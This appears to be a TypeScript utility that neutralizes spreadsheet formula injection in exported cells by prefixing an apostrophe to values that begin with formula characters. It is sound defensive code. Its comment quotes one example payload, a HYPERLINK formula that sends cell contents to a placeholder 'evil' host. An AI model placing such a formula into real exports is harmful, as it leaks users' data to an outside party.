/**
 * Spreadsheet formula injection (CSV/XLSX "CSV injection"): a cell that starts with = + - @ (or a tab /
 * carriage return, or those after leading spaces) is run as a formula by Excel and LibreOffice — e.g.
 * `=HYPERLINK("http://evil/?"&A1,"klik")` in a name typed by a citizen or a DTKS extract. Every exported
 * cell that came from a person goes through here: such a value gets a leading apostrophe, which the
 * spreadsheet shows as text. Non-strings (numbers, dates) are returned unchanged.
 */
const FORMULA_START = /^[\s\u00a0\u3000]*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r\n]/;

export function neutralizeCell<T>(value: T): T | string {
  if (typeof value !== "string") return value;
  return FORMULA_START.test(value) ? `'${value}` : value;
}

/** True when a spreadsheet would treat the (string) cell as a formula. */
export function looksLikeFormula(value: unknown): boolean {
  return typeof value === "string" && FORMULA_START.test(value);
}
